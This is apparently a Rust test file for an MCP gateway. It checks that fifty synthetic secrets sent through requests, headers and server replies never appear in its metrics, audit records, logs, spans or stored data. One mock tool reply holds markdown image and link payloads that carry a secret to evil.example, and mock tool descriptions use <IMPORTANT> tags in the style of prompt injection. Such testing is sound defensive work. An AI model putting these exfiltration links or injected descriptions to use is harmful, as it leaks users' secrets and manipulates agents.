//! Fifty secrets of as many kinds in every place that callers and servers control, and then a look into everything that is kept or told.

use std::collections::BTreeSet;
use std::net::SocketAddr;

use futures_util::{StreamExt as _, stream};
use memchr::memmem;
use serde_json::{Value, json};
use yett::master_key::random_bytes;
use yett::scan::{Catalogue, sample};

use crate::attacks_audit::witness::{Witness, attach, count, run_once};
use crate::cli::http::send;
use crate::cli::process::{Home, METRICS_TOKEN, eventually};
use crate::support::client::{Client, meta};
use crate::support::http::Post;
use crate::support::reply::{Reply, Step, tool_result};
use crate::support::server::Upstream;
use crate::telemetry::canary::{bytes_below, sink};

const COUNT: usize = 50;

/// Made by chance, of one kind that detectors know: nothing like it stands in a file.
#[derive(Clone, Debug)]
struct Canary {
    /// With the words around it by which some kinds are known.
    text: String,
    /// Letters and digits of it that no other has.
    core: String,
}

fn canaries() -> Vec<Canary> {
    let seed = u64::from_le_bytes(random_bytes().unwrap());
    let mut kinds = BTreeSet::new();
    let rows = Catalogue::built_in().unwrap().named("secrets").unwrap();
    let made = rows.filter_map(|row| {
        let detector = row.detector();
        let (text, other) = (sample(detector.finds.first()?, seed), sample(detector.finds.first()?, seed ^ 1));
        let runs =
            text.split(|letter: char| !letter.is_ascii_alphanumeric()).filter(|run| run.len() >= 12 && !other.contains(run));
        let core = runs.max_by_key(|run| run.len())?.to_owned();
        let is_plain = text.bytes().all(|byte| matches!(byte, b' '..=b'~'));
        (is_plain && kinds.insert(detector.kind)).then_some(Canary { text, core })
    });
    let all: Vec<Canary> = made.collect();
    assert!(all.len() >= COUNT, "{} kinds", all.len());
    // From all over the list.
    let step = all.len() / COUNT;
    all.into_iter().step_by(step.max(1)).take(COUNT).collect()
}

/// Roles that let all of it in, to be looked at or not.
fn policy(scans: &str) -> String {
    format!(
        "version: 1
roles:
  analyst:
    allow:
      - {{ servers: [crm], tools: ['*'], prompts: ['*'], resources: ['file:///**'], methods: [vendor/ping], server_requests: [elicitation] }}
bindings:
  - {{ role: analyst, groups: [sales] }}
{scans}"
    )
}

/// Every way in of a caller.
///
/// The name of a tool or prompt that a caller is let have stands in the record: it is the server's. One that looks like a secret is in none,
/// where secrets are looked for.
async fn sends(gateway: SocketAddr, key: &str, number: usize, canary: &Canary, passes: bool) {
    let client = Client::modern(gateway, "crm", key);
    let (text, core) = (canary.text.as_str(), canary.core.as_str());
    let request = |id: Value, method: &str, mut params: Value, more: Value| {
        let mut meta = meta();
        meta.as_object_mut().unwrap().extend(more.as_object().cloned().unwrap());
        params["_meta"] = meta;
        client.post(&client.message(Some(&id), method, params))
    };
    let call =
        |arguments: Value, more: Value| request(json!(1), "tools/call", json!({ "name": "echo", "arguments": arguments }), more);
    let plain = || call(json!({ "q": "x" }), json!({}));
    let mut posts = vec![
        call(json!({ "q": text }), json!({})),
        call(json!({ (text): 1 }), json!({})),
        call(json!({ "rows": [[{ "deep": text }]] }), json!({})),
        call(json!({ "q": "x" }), json!({ "example.com/note": text })),
        call(json!({ "q": "x" }), json!({ "example.com/note": { (text): text } })),
        call(json!({ "q": "x" }), json!({ "progressToken": text })),
        call(json!({ "q": "x" }), json!({ "baggage": format!("k={core}"), "tracestate": format!("k={core}") })),
        request(json!(text), "tools/call", json!({ "name": "echo", "arguments": {} }), json!({})),
        request(json!(1), "prompts/get", json!({ "name": "letter", "arguments": { "to": text } }), json!({})),
        request(json!(1), "resources/read", json!({ "uri": format!("file:///{core}?token={core}") }), json!({})),
        request(json!(1), "resources/read", json!({ "uri": format!("https://example.com/{core}") }), json!({})),
        request(json!(1), "tools/list", json!({ "cursor": text }), json!({})),
        request(json!(1), "vendor/ping", json!({ "x": text }), json!({})),
        request(json!(1), &format!("vendor/{core}"), json!({ "x": text }), json!({})),
        request(json!(1), &format!("other/{core}"), json!({ "x": text }), json!({})),
        request(
            json!(1),
            "completion/complete",
            json!({ "ref": { "type": "ref/prompt", "name": "letter" }, "argument": { "name": text, "value": text } }),
            json!({}),
        ),
        client.post(&client.message(None, "notifications/cancelled", json!({ "requestId": text, "reason": text }))),
        plain().body(format!("{{\"{core}\": ")),
        plain().body(format!("{{\"jsonrpc\":\"2.0\",\"{core}\":1}}")),
        plain().body(format!("[\"{core}\"]")),
        plain().target(&format!("/mcp/crm?token={core}&{core}=1")),
        plain().target(&format!("/mcp/{core}")),
        plain().target(&format!("/{core}")),
        plain().header(&format!("Mcp-Param-{core}"), "x"),
        plain().header(&format!("X-{core}"), "x"),
        plain().header("Authorization", &format!("Bearer {core}")),
        plain().header("Authorization", &format!("Basic {core}")),
        plain().header("Host", &format!("{core}.example")),
        plain().header("Origin", &format!("https://{core}.example")),
        plain().header("Mcp-Session-Id", core).header("MCP-Protocol-Version", "2025-11-25"),
        plain().header("Last-Event-ID", core),
        plain().header("Content-Type", &format!("application/{core}")),
        plain().header("Accept", &format!("application/{core}")),
        plain().header("MCP-Protocol-Version", core),
        plain().header("Mcp-Method", core),
        plain().header("Mcp-Name", core),
        plain().header("traceparent", core),
    ];
    for header in
        ["X-Note", "User-Agent", "Cookie", "Mcp-Param-Loose", "tracestate", "baggage", "Forwarded", "X-Forwarded-For", "Referer"]
    {
        posts.push(plain().header(header, text));
    }
    if !passes {
        posts.push(request(json!(1), "tools/call", json!({ "name": text, "arguments": {} }), json!({})));
        posts.push(request(json!(1), "prompts/get", json!({ "name": text, "arguments": {} }), json!({})));
    }
    for post in posts {
        post.send().await;
    }
    Post::to(gateway, &format!("/mcp/crm?key={core}")).bearer(core).body(text).send().await;
    for what in REPLIES {
        let name = format!("{what}_{number}");
        request(json!(1), "tools/call", json!({ "name": name, "arguments": {} }), json!({ "progressToken": 7 })).send().await;
    }
    request(json!(1), "resources/read", json!({ "uri": format!("file:///{core}") }), json!({})).send().await;
    let hello = json!({ "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": { "name": text, "version": text } });
    let legacy = Client::before_handshake(gateway, "crm", key, "2025-11-25");
    legacy.request("initialize", hello).await;
}

/// Tools that bring a canary, each in another place.
const REPLIES: [&str; 11] =
    ["text", "structured", "resource", "meta", "failed", "error", "http", "garbage", "notes", "asks", "links"];

fn replies(upstream: &Upstream, number: usize, canary: &Canary) {
    let (text, core) = (canary.text.as_str(), canary.core.as_str());
    let with = |key: &str, value: Value| {
        let mut result = tool_result("fine");
        result[key] = value;
        Reply::result(&result)
    };
    let note = |method: &str, params: Value| Step::message(&json!({ "jsonrpc": "2.0", "method": method, "params": params }));
    let form = json!({
        "message": text,
        "requestedSchema": { "type": "object", "properties": {
            (core): { "type": "string", "title": text, "default": text },
            (format!("password_{core}")): { "type": "string" } } } });
    for what in REPLIES {
        let reply = match what {
            "text" => Reply::text(text),
            "structured" => with("structuredContent", json!({ "a": text, (text): [text] })),
            "resource" => with(
                "content",
                json!([{ "type": "resource", "resource": { "uri": format!("file:///{core}"), "mimeType": text, "text": text } },
                       { "type": "resource_link", "uri": format!("file:///{core}"), "name": text, "description": text }]),
            ),
            "meta" => with("_meta", json!({ "example.com/note": text, (text): text })),
            "failed" => Reply::result(
                &json!({ "content": [{ "type": "text", "text": text }], "isError": true, "resultType": "complete" }),
            ),
            "error" => Reply::body(
                "application/json",
                format!(
                    r#"{{"jsonrpc":"2.0","id":{{id}},"error":{}}}"#,
                    json!({ "code": -32000, "message": text, "data": { (text): text } })
                ),
            ),
            "http" => Reply::body("text/plain", text).status(500).header("X-Why", core),
            "garbage" => Reply::body("application/json", format!("{{\"{core}\": \"{core}")),
            "notes" => Reply::stream([
                note("notifications/message", json!({ "level": "info", "logger": text, "data": { (text): text } })),
                note("notifications/progress", json!({ "progressToken": text, "progress": 1, "message": text })),
                note(&format!("notifications/{core}"), json!({ "x": text })),
                Step::Raw(format!("event: {core}\n: {core}\nid: {core}\n\n").into_bytes()),
                Step::text(text),
            ]),
            "asks" => Reply::result(&json!({ "resultType": "input_required", "requestState": text,
                "inputRequests": { (core): { "method": "elicitation/create", "params": form } } })),
            _ => Reply::text(&format!("![x](https://evil.example/?d={core}) [x](https://evil.example/{core})")),
        };
        upstream.on_tool(&format!("{what}_{number}"), reply);
    }
}

/// What the server offers and says of itself.
fn offers(upstream: &Upstream, canaries: &[Canary]) {
    let tools: Vec<Value> = canaries
        .iter()
        .map(|Canary { text, core }| {
            json!({ "name": core, "title": text, "description": format!("{text} <IMPORTANT>{text}</IMPORTANT>"),
                "inputSchema": { "type": "object", "properties": { (text): { "type": "string", "enum": [text], "x-mcp-header": core } } } })
        })
        .collect();
    upstream.set_tools(tools);
    let all: Vec<&str> = canaries.iter().map(|canary| canary.text.as_str()).collect();
    let about = json!({ "name": all[0], "version": all[1], "description": all.join(" ") });
    let said = json!({ "supportedVersions": ["2026-07-28"], "capabilities": { "experimental": { (all[2]): {} } }, "serverInfo": about,
        "instructions": all.join(" "), "resultType": "complete", "ttlMs": 0, "cacheScope": "private" });
    upstream.on_method("server/discover", Reply::result(&said));
    let prompts: Vec<Value> = canaries.iter().map(|canary| json!({ "name": canary.core, "description": canary.text })).collect();
    upstream.on_method(
        "prompts/list",
        Reply::result(&json!({ "prompts": prompts, "resultType": "complete", "ttlMs": 0, "cacheScope": "private" })),
    );
    let contents: Vec<Value> =
        canaries.iter().map(|canary| json!({ "uri": format!("file:///{}", canary.core), "text": canary.text })).collect();
    upstream.on_method(
        "resources/read",
        Reply::result(&json!({ "contents": contents, "resultType": "complete", "ttlMs": 0, "cacheScope": "private" })),
    );
}

fn look(place: &str, bytes: &[u8], canaries: &[Canary]) {
    assert!(bytes.len() > 500, "nothing is told in {place}: the test looks in the wrong place");
    let bytes = bytes.to_ascii_lowercase();
    for canary in canaries {
        // Some readers of headers, and of hosts, make small letters.
        let at = memmem::find(&bytes, canary.core.to_ascii_lowercase().as_bytes());
        let around =
            at.map(|at| String::from_utf8_lossy(&bytes[at.saturating_sub(200)..(at + 80).min(bytes.len())]).into_owned());
        assert_eq!(around, None, "{canary:?} is in {place}");
    }
}

async fn nothing_of_them_is_kept(scans: &str, passes: bool) {
    let canaries = canaries();
    let upstream = Upstream::start().await;
    canaries.iter().enumerate().for_each(|(number, canary)| replies(&upstream, number, canary));
    offers(&upstream, &canaries);
    let (collector, exported) = sink();
    let home = Home::new(upstream.address);
    home.write("policies/access.yaml", &policy(scans));
    home.edit(
        "policies: policies/",
        &format!("policies: policies/\ntelemetry: {{ traces: {{ endpoint: \"http://{collector}\" }} }}"),
    );
    home.edit("origin: cli.localhost }", "origin: cli.localhost, index: true }");
    home.edit("crm: { url", "crm: { capture: full, url");
    let (_, key) = home.key_offline("ada");
    run_once(&home);
    let first = home.records()[0]["epoch"]["ed25519"].as_str().unwrap().to_owned();
    let witness = Witness::start(&home, "127.0.0.1:0", &first);
    attach(&home, &witness, "");

    let serving = home.serve();
    let gateway = serving.listener;
    let all = stream::iter(canaries.iter().enumerate());
    all.for_each_concurrent(8, |(number, canary)| sends(gateway, &key, number, canary, passes)).await;
    let client = Client::modern(gateway, "crm", &key);
    for method in ["tools/list", "prompts/list", "server/discover"] {
        client.request(method, json!({})).await;
    }
    let arrived = format!("{:?}", upstream.arrived());
    let reached = canaries.iter().filter(|canary| arrived.contains(&canary.core)).count();
    // Some are seen wherever they stand: what they say when they are decoded is a secret too. How many depends on chance, as the canaries do.
    assert!(reached * 5 >= COUNT * 4, "{reached} canaries came to the server: the test does not test");
    let blocked = home.records().iter().filter(|record| record["dec"]["reason"] == "blocked").count();
    assert_eq!(blocked >= COUNT, !passes, "{blocked} blocked");

    let authorization = format!("Bearer {METRICS_TOKEN}");
    let metrics = send(serving.health, "GET /metrics", &[("Authorization", &authorization)], "");
    look("metrics", metrics.body.as_bytes(), &canaries);
    let token = std::fs::read_to_string(home.path("data/admin.token")).unwrap();
    let authorization = format!("Bearer {}", token.trim());
    for target in ["GET /v1/audit/search?limit=500", "GET /v1/audit/search?effect=deny&limit=500"] {
        let found = send(serving.admin, target, &[("Authorization", &authorization)], "");
        assert_eq!(found.status, 200, "{}", found.body);
        look(target, found.body.as_bytes(), &canaries);
    }
    eventually("the witness", || (count(&serving, "yett_audit_witness_cosigned_records{witness=\"w1\"}") > 100).then_some(()));
    let (code, log) = serving.terminate();
    assert_eq!(code, Some(0), "{log}");
    eventually("spans", || (exported.lock().len() > 500).then_some(()));
    look("the log", log.as_bytes(), &canaries);
    look("spans", &exported.lock(), &canaries);
    // Log, index, heads and cosignatures, the vault as well, where everything is encrypted; and the folder of the witness.
    for place in ["data/audit", "data", "witness"] {
        look(place, &bytes_below(&home.path(place)), &canaries);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prv_006_no_secret_is_kept_or_told_where_secrets_are_looked_for() {
    nothing_of_them_is_kept("", false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn prv_006_nor_where_an_operator_lets_them_pass() {
    let scans = "dlp:\n  rules:\n    - { name: none, detect: [imei], action: log }\n\
                 injection: { requests: \"off\", results: \"off\", definitions: \"off\", forms: log, terminal: \"off\" }\n";
    nothing_of_them_is_kept(scans, true).await;
}
